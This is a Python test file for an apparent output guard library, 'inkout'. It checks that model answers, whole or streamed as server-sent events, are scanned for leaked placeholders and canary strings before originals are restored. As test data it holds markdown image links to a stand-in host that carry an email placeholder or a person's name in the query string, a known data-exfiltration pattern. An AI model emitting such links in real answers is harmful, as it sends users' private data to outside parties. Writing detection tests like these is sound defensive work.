"""Answers checked before originals are put back into them: whole, as text that streams in, and as events."""

import json

import pytest

import inkout

ENGINE = inkout.Engine()
CANARY = "blue-heron-417"
LEAKY = "é: ![p](https://x.example/?d=[EMAIL_1]) and BLUE heron 417.\nbye"
CLEAN = "é: ![p]([LINK]) and [CANARY].\nbye"


def event(text):
    return b"data: " + json.dumps({"choices": [{"index": 0, "delta": {"content": text}}]}).encode() + b"\n\n"


def content(stream):
    events = [json.loads(line[6:]) for line in stream.decode().splitlines() if line.startswith("data: {")]
    return "".join(event["choices"][0]["delta"].get("content") or "" for event in events)


def test_leaks_are_places_in_code_points():
    checked = ENGINE.check_answer(LEAKY, canaries=[CANARY])
    assert (checked.text, checked.blocked) == (CLEAN, False)
    assert [leak.kind for leak in checked.leaks] == ["link", "canary"]
    assert [LEAKY[leak.start : leak.end] for leak in checked.leaks] == ["https://x.example/?d=[EMAIL_1]", "BLUE heron 417"]
    assert "heron" not in repr(checked) + repr(checked.leaks)


def test_report_and_block():
    assert ENGINE.check_answer(LEAKY, on_leak="report").text == LEAKY
    blocked = ENGINE.check_answer(LEAKY, on_leak="block")
    assert (blocked.text, blocked.blocked) == ("", True)
    with pytest.raises(ValueError, match="on_leak"):
        ENGINE.check_answer(LEAKY, on_leak="ignore")


def test_originals_of_the_vault_in_links():
    vault = inkout.Vault()
    vault.insert("person", "Jane Roe")
    answer = "![p](https://x.example/?d=Jane%20Roe)"
    assert ENGINE.check_answer(answer).leaks == []
    assert ENGINE.check_answer(answer, vault=vault).text == "![p]([LINK])"
    guard = ENGINE.answer_guard(vault=vault)
    del vault
    assert guard.push(answer) + guard.finish() == "![p]([LINK])"


def test_text_cut_anywhere():
    for cut in range(len(LEAKY) + 1):
        guard = ENGINE.answer_guard(canaries=[CANARY])
        assert guard.push(LEAKY[:cut]) + guard.push(LEAKY[cut:]) + guard.finish() == CLEAN
        assert guard.leaks == ["link", "canary"]


def test_events_cut_anywhere_then_restored():
    vault = inkout.Vault()
    vault.insert("email", "jane.roe@example.com")
    stream = event("To [EM") + event("AIL_1]: ![p](https://x.example/?d=[EMAIL_1]) bye")
    for cut in range(len(stream) + 1):
        guard, restorer = ENGINE.sse_guard(vault=vault), vault.sse_restorer()
        pieces = [guard.push(stream[:cut]), guard.push(stream[cut:]), guard.finish()]
        out = b"".join(map(restorer.push, pieces)) + restorer.finish()
        assert content(out) == "To jane.roe@example.com: ![p]([LINK]) bye"
        assert guard.leaks == ["link"]


@pytest.mark.parametrize("guard, leaky", [(ENGINE.answer_guard, LEAKY), (ENGINE.sse_guard, event(LEAKY))])
def test_nothing_comes_after_a_block(guard, leaky):
    guard = guard(on_leak="block")
    with pytest.raises(inkout.StreamError):
        guard.push(leaky)
        guard.finish()
    with pytest.raises(inkout.StreamError):
        guard.push(leaky[:0])
    assert guard.leaks == ["link"]
